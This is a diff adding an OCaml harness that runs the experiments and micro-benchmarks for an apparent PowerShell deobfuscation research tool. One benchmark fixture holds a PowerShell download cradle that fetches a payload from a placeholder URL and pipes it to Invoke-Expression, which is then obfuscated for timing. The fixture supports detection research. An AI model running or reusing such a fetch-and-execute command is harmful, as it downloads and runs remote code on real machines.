@@ -1,0 +1,142 @@
+(* Benchmark and experiment harness.
+
+   One target per table/figure of the paper:
+     table1 table2 fig5 fig6 table3 table4 table5 case ablate micro
+   No argument runs everything except micro (the Bechamel throughput
+   suite, which takes a while on its own). *)
+
+let line () = print_endline (String.make 78 '-')
+
+let run_table1 () =
+  line ();
+  Experiments.Table1.print (Experiments.Table1.run ())
+
+let run_table2 () =
+  line ();
+  Experiments.Table2.print (Experiments.Table2.run ())
+
+let shared_set = lazy (Experiments.Effectiveness.make_samples ())
+
+let run_fig5 () =
+  line ();
+  Experiments.Effectiveness.print_fig5
+    (Experiments.Effectiveness.run_fig5 (Lazy.force shared_set))
+
+let run_fig6 () =
+  line ();
+  Experiments.Effectiveness.print_fig6
+    (Experiments.Effectiveness.run_fig6 (Lazy.force shared_set))
+
+let run_table3 () =
+  line ();
+  Experiments.Table3.print (Experiments.Table3.run ())
+
+let run_table4 () =
+  line ();
+  Experiments.Table4.print (Experiments.Table4.run (Lazy.force shared_set))
+
+let run_table5 () =
+  line ();
+  Experiments.Table5.print (Experiments.Table5.run ())
+
+let run_case () =
+  line ();
+  Experiments.Case_study.print ()
+
+let run_ablate () =
+  line ();
+  Experiments.Ablation.print (Experiments.Ablation.run ())
+
+let run_amsi () =
+  line ();
+  Experiments.Amsi_compare.print
+    (Experiments.Amsi_compare.run (Lazy.force shared_set))
+
+let run_unknown () =
+  line ();
+  Experiments.Unknown_techniques.print (Experiments.Unknown_techniques.run ())
+
+let run_limits () =
+  line ();
+  Experiments.Limitations.print (Experiments.Limitations.run ())
+
+let run_funnel () =
+  line ();
+  Experiments.Preprocess_stats.print (Experiments.Preprocess_stats.run ())
+
+(* ---------- Bechamel micro-benchmarks ---------- *)
+
+let micro_tests () =
+  let open Bechamel in
+  let sample =
+    let rng = Pscommon.Rng.of_int 5 in
+    Obfuscator.Obfuscate.multilayer rng 2
+      "$u = 'https://example.com/payload.txt'\n\
+       (New-Object Net.WebClient).DownloadString($u) | Invoke-Expression"
+  in
+  let simple = "('wri'+'te-host') ('he'+'llo')" in
+  [
+    Test.make ~name:"lexer/multilayer-sample"
+      (Staged.stage (fun () -> ignore (Pslex.Lexer.tokenize sample)));
+    Test.make ~name:"parser/multilayer-sample"
+      (Staged.stage (fun () -> ignore (Psparse.Parser.parse sample)));
+    Test.make ~name:"interp/concat-piece"
+      (Staged.stage (fun () ->
+           let env = Pseval.Env.create () in
+           ignore (Pseval.Interp.invoke_piece env "'he'+'llo'")));
+    Test.make ~name:"deobf/simple"
+      (Staged.stage (fun () -> ignore (Deobf.Engine.run simple)));
+    Test.make ~name:"deobf/multilayer"
+      (Staged.stage (fun () -> ignore (Deobf.Engine.run sample)));
+    Test.make ~name:"score/multilayer-sample"
+      (Staged.stage (fun () -> ignore (Deobf.Score.score sample)));
+    Test.make ~name:"deflate/roundtrip-1k"
+      (Staged.stage (fun () ->
+           let data =
+             String.concat "" (List.init 128 (fun i -> Printf.sprintf "line %d;" i))
+           in
+           ignore (Encoding.Inflate.inflate_exn (Encoding.Deflate.deflate data))));
+  ]
+
+let run_micro () =
+  line ();
+  print_endline "Bechamel micro-benchmarks (monotonic clock)";
+  let open Bechamel in
+  let instance = Toolkit.Instance.monotonic_clock in
+  let cfg = Benchmark.cfg ~limit:300 ~quota:(Time.second 0.5) () in
+  List.iter
+    (fun test ->
+      let results = Benchmark.all cfg [ instance ] (Test.make_grouped ~name:"micro" [ test ]) in
+      let analyzed =
+        Analyze.all
+          (Analyze.ols ~bootstrap:0 ~r_square:false ~predictors:[| Measure.run |])
+          instance results
+      in
+      Hashtbl.iter
+        (fun name ols ->
+          match Analyze.OLS.estimates ols with
+          | Some [ est ] -> Printf.printf "  %-36s %14.1f ns/run\n" name est
+          | Some _ | None -> Printf.printf "  %-36s (no estimate)\n" name)
+        analyzed)
+    (micro_tests ())
+
+let registry =
+  [ ("table1", run_table1); ("table2", run_table2); ("fig5", run_fig5);
+    ("fig6", run_fig6); ("table3", run_table3); ("table4", run_table4);
+    ("table5", run_table5); ("case", run_case); ("ablate", run_ablate);
+    ("amsi", run_amsi); ("unknown", run_unknown); ("limits", run_limits);
+    ("funnel", run_funnel); ("micro", run_micro) ]
+
+let () =
+  match Array.to_list Sys.argv with
+  | _ :: (_ :: _ as names) ->
+      List.iter
+        (fun name ->
+          match List.assoc_opt name registry with
+          | Some f -> f ()
+          | None ->
+              Printf.eprintf "unknown experiment %s; available: %s\n" name
+                (String.concat " " (List.map fst registry));
+              exit 1)
+        names
+  | _ -> List.iter (fun (name, f) -> if name <> "micro" then f ()) registry
